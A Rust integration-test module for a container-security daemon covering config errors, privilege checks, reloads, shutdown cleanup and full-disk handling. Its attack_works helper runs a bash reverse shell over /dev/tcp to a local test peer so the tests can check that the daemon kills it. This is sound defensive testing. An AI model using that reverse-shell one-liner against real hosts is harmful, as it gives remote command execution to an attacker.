//! Bad input, missing rights and broken surroundings: what the daemon says, does and leaves behind.

use crate::container::{Container, Group};
use crate::daemon::{Daemon, Settings, outcome, program, run_once};
use crate::lab::Peer;
use crate::pace;
use crate::restart::Bpffs;
use anyhow::{Context, Result, bail, ensure};
use monitor::kernel::loader::{Kernel, LoadError, Options};
use rustix::process::Signal;
use std::collections::HashSet;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

const PRIVILEGE: i32 = 77;
const USAGE: i32 = 64;
const KERNEL: i32 = 69;
const NOBODY: [&str; 3] = ["--reuid=65534", "--regid=65534", "--clear-groups"];

/// What each bad line must be answered with: `file:line` and the key.
pub fn config_errors_exit_64() -> Result<()> {
    let cases = [
        ("mode = \"watch\"\n", 1, "mode"),
        ("\n[host]\nwacth = true\n", 3, "wacth"),
        ("[output]\nmax_bytes = \"much\"\n", 2, "output.max_bytes"),
        ("[actions]\nminer = \"kil\"\n", 2, "actions.miner"),
        ("[miner]\npool_networks = [\"10.0.0.0/64\"]\n", 2, "miner.pool_networks"),
        ("[[image]]\nmatch = \"a[\"\nmode = \"off\"\n", 2, "match"),
        ("mode = \n", 1, ""),
    ];
    let folder = tempfile::tempdir()?;
    let file = folder.path().join("bad.toml");
    for (text, line, key) in cases {
        // A socket of its own: that nothing is started shows by its absence.
        fs::write(&file, text)?;
        for arguments in [&["run", "--config"][..], &["validate"]] {
            let (status, said) = run_once(Command::new(program()?).args(arguments).arg(&file))?;
            ensure!(status.code() == Some(USAGE), "{arguments:?} of {text:?} ended with {status}: {said}");
            let place = format!("bad.toml:{line}");
            ensure!(said.contains(&place) && said.contains(key), "{text:?}: neither {place} nor {key} in: {said}");
        }
    }
    let (status, said) = run_once(Command::new(program()?).args(["run", "--config", "/nonexistent/x.toml"]))?;
    ensure!(status.code() == Some(USAGE) && said.contains("/nonexistent/x.toml"), "{status}: {said}");
    Ok(())
}

/// A copy of the program that everybody may execute.
fn public_program(folder: &Path) -> Result<PathBuf> {
    fs::set_permissions(folder, fs::Permissions::from_mode(0o755))?;
    let copy = folder.join("bulkhead");
    fs::copy(program()?, &copy).context("copy the program")?;
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755))?;
    Ok(copy)
}

/// An ordinary user is told what is needed.
pub fn no_root_exits_77() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let program = public_program(folder.path())?;
    let (status, said) = run_once(Command::new("setpriv").args(NOBODY).arg(&program).arg("run"))?;
    ensure!(status.code() == Some(PRIVILEGE), "ended with {status}: {said}");
    ensure!(said.contains("root") || said.contains("CAP_"), "does not say what is needed: {said}");
    Ok(())
}

/// Built without its object, and on a kernel without type information.
pub fn kernel_half_missing() -> Result<()> {
    let options = Options {
        object: &[],
        hierarchy: 0,
        controller: "",
        cgroup_root: Path::new("/sys/fs/cgroup"),
        config: monitor_common::state::Config::default(),
        avoid: &[],
        pins: None,
    };
    match Kernel::load(&options) {
        Err(error @ LoadError::NoObject) => ensure!(error.to_string().contains("cargo xtask build"), "{error}"),
        Err(other) => bail!("another error: {other}"),
        Ok(_) => bail!("an empty object was loaded"),
    }
    let hidden = "mount -t tmpfs tmpfs /sys/kernel/btf && exec \"$@\"";
    let mut command = Command::new("unshare");
    command.args(["--mount", "--propagation", "private", "sh", "-c", hidden, "sh"]).arg(program()?);
    let folder = tempfile::tempdir()?;
    let config = folder.path().join("config.toml");
    fs::write(&config, "[engine]\ndocker = false\n[control]\nsocket = \"\"\n")?;
    let (status, said) = run_once(command.args(["run", "--config"]).arg(&config))?;
    ensure!(status.code() == Some(KERNEL), "ended with {status}: {said}");
    ensure!(said.contains("CONFIG_DEBUG_INFO_BTF"), "does not say what is missing: {said}");
    Ok(())
}

/// One reverse shell in the container; tells whether the attacker's command ran.
pub fn attack_works(container: &Container) -> Result<bool> {
    let peer = Peer::shell(container.listen()?, "touch /tmp/effect\nexit\n", pace::wait(Duration::from_secs(3)))?;
    container.run(&format!("rm -f /tmp/effect; bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
    Ok(container.path("/tmp/effect").exists())
}

/// As [`attack_works`], for tests that expect it to: on a machine under load a shell may be so slow that
/// the attacker has hung up.
pub fn attack_works_at_last(container: &Container) -> Result<bool> {
    for _ in 0..3 {
        if attack_works(container)? {
            return Ok(true);
        }
    }
    Ok(false)
}

fn await_log(daemon: &Daemon, words: &str) -> Result<()> {
    let deadline = Instant::now() + pace::wait(Duration::from_secs(5));
    while !daemon.log().contains(words) {
        ensure!(Instant::now() < deadline, "the log does not say {words:?}:\n{}", daemon.log());
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

/// A bad file changes nothing; a good one takes effect on containers that run already.
pub fn sighup_reload_keeps_old_on_error() -> Result<()> {
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings::mode("protect"))?;
    let container = Container::start(&group)?;
    let bad = daemon.config(&Settings::mode("monitor")) + "[nonsense]\nx = 1\n";
    daemon.reload(&bad)?;
    await_log(&daemon, "the old one stays")?;
    ensure!(!attack_works(&container)?, "a bad file switched protection off");
    daemon.reload(&daemon.config(&Settings::mode("monitor")))?;
    daemon.await_row("reloaded notice", Duration::from_secs(5), |row| row["event"]["action"] == "reloaded")?;
    ensure!(attack_works(&container)?, "the good file did not take effect");
    ensure!(daemon.status()?["mode"] == "monitor", "status tells the old mode");
    daemon.reload(&daemon.config(&Settings::mode("protect")))?;
    let reloaded = |daemon: &Daemon| daemon.rows().iter().filter(|row| row["event"]["action"] == "reloaded").count();
    let deadline = Instant::now() + pace::wait(Duration::from_secs(5));
    while reloaded(&daemon) < 2 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    ensure!(!attack_works(&container)?, "protection did not come back");
    Ok(())
}

/// Ids of programs that a process holds, by the descriptions of its descriptors.
pub fn programs_of(pid: u32) -> Result<HashSet<u32>> {
    let mut found = HashSet::new();
    for entry in fs::read_dir(format!("/proc/{pid}/fdinfo"))?.flatten() {
        let text = fs::read_to_string(entry.path()).unwrap_or_default();
        found.extend(
            text.lines()
                .filter_map(|line| line.strip_prefix("prog_id:"))
                .filter_map(|id| id.trim().parse::<u32>().ok()),
        );
    }
    Ok(found)
}

/// Waits until none of these programs is loaded any more.
pub fn await_unloaded(ours: &HashSet<u32>) -> Result<()> {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let loaded: HashSet<u32> = aya::programs::loaded_programs().flatten().map(|program| program.id()).collect();
        let left: Vec<_> = ours.intersection(&loaded).collect();
        if left.is_empty() {
            return Ok(());
        }
        ensure!(Instant::now() < deadline, "programs {left:?} are still loaded");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Nothing of ours stays in the kernel, nor the socket; the last row is written.
pub fn sigterm_exits_0_and_detaches() -> Result<()> {
    let group = Group::make()?;
    let stage = Bpffs::mount()?;
    let pins = Some(stage.pins("release"));
    let mut daemon = Daemon::start(&group, &Settings { pins, ..Settings::mode("protect") })?;
    let ours = programs_of(daemon.pid())?;
    ensure!(ours.len() >= 5, "the running daemon holds {} programs", ours.len());
    let status = daemon.stop()?;
    ensure!(status.code() == Some(0), "ended with {status}:\n{}", daemon.log());
    // Its mount namespace is the harness's: read directly, the process is gone.
    let rows = daemon.rows_after_end();
    ensure!(rows.iter().any(|row| row["event"]["action"] == "stopped"), "no last row");
    ensure!(!daemon.socket().exists(), "the control socket is left behind");
    await_unloaded(&ours)?;
    ensure!(stage.is_empty()?, "something is still pinned");
    let container = Container::start(&group)?;
    ensure!(attack_works_at_last(&container)?, "something still enforces");
    Ok(())
}

/// With the disk full the kill still comes, the finding is on the control socket, the trouble is told,
/// and when there is room again rows are written again.
pub fn output_full_keeps_detecting() -> Result<()> {
    let group = Group::make()?;
    let prelude = "mkdir @SCRATCH@/out && mount -t tmpfs -o size=64k tmpfs @SCRATCH@/out && \
                   head -c 100000 /dev/zero > @SCRATCH@/out/filler 2>/dev/null || true";
    let daemon = Daemon::start(&group, &Settings { prelude: prelude.into(), ..Settings::mode("protect") })?;
    let container = Container::start(&group)?;
    ensure!(!attack_works(&container)?, "not stopped");
    ensure!(daemon.rows().is_empty(), "the stage is not full");
    let mut events = Command::new(program()?);
    let output = events.args(["events", "--json", "--socket"]).arg(daemon.socket()).output()?;
    let text = String::from_utf8_lossy(&output.stdout);
    ensure!(text.contains("reverse_shell"), "the finding is lost: {text}");
    fs::remove_file(daemon.file("out/filler")).context("make room")?;
    ensure!(!attack_works(&container)?, "not stopped");
    let alert = daemon.await_alert("reverse_shell", container.id())?;
    ensure!(outcome(&alert) == "killed", "outcome {}", outcome(&alert));
    let told = daemon.rows().iter().any(|row| row["event"]["kind"] == "pipeline_error");
    ensure!(told, "the loss is not told in: {:?}", daemon.rows());
    Ok(())
}

/// By the file's mode, and by the peer's identity where somebody loosened that.
pub fn control_socket_root_only() -> Result<()> {
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings::mode("monitor"))?;
    let folder = tempfile::tempdir()?;
    let program = public_program(folder.path())?;
    let socket = daemon.socket();
    let mode = fs::metadata(&socket)?.permissions().mode() & 0o777;
    ensure!(mode == 0o600, "the socket has mode {mode:o}");
    if let Some(parent) = socket.parent() {
        fs::set_permissions(parent, fs::Permissions::from_mode(0o755))?;
    }
    let ask = || run_once(Command::new("setpriv").args(NOBODY).arg(&program).args(["status", "--socket"]).arg(&socket));
    let (status, said) = ask()?;
    ensure!(status.code() == Some(PRIVILEGE), "ended with {status}: {said}");
    fs::set_permissions(&socket, fs::Permissions::from_mode(0o666))?;
    let (status, said) = ask()?;
    ensure!(!status.success() && said.contains("65534"), "{status}: {said}");
    ensure!(daemon.status()?["mode"] == "monitor", "root is not answered");
    Ok(())
}

/// No engine: said once, and containers are still watched.
pub fn docker_absent_says_once() -> Result<()> {
    let group = Group::make()?;
    let engine = "docker = true\ndocker_socket = \"/nonexistent/docker.sock\"".to_owned();
    let daemon = Daemon::start(&group, &Settings { engine, ..Settings::mode("protect") })?;
    let container = Container::start(&group)?;
    ensure!(!attack_works(&container)?, "not stopped");
    daemon.await_alert("reverse_shell", container.id())?;
    // Long enough for several further attempts.
    std::thread::sleep(Duration::from_secs(4));
    let told = daemon.log().lines().filter(|line| line.contains("not reachable")).count();
    ensure!(told == 1, "said {told} times:\n{}", daemon.log());
    daemon.signal(Signal::TERM)?;
    Ok(())
}
